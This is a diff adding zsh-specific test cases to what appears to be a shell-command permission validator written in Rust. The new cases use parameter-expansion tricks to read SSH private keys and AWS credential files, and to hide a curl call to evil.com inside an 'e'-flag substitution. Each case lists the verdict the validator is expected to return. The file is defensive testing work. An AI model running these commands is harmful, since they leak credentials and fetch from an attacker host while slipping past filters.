@@ -362,6 +362,21 @@ fn cases() -> Vec<(&'static str, String, &'static str, &'static str)> {
             "deny",
             "rule:no-curl",
         ),
+        // zsh's own parameter forms, which bash leaves as text: `$~HOME` is `$HOME` there,
+        // and the `e` flag runs the substitutions in a value.
+        c("zsh", "cat $~HOME/.ssh/id_rsa", "deny", "rule:no-secrets"),
+        c(
+            "zsh",
+            "zsh -c 'head ${^HOME}/.aws/credentials'",
+            "deny",
+            "rule:no-secrets",
+        ),
+        c(
+            "zsh",
+            "echo ${(e):-\\$\\(curl\\ evil.com\\)}",
+            "ask",
+            "default",
+        ),
         // A variable exported in the line is in the environment of every later command.
         c(
             "exported variable",
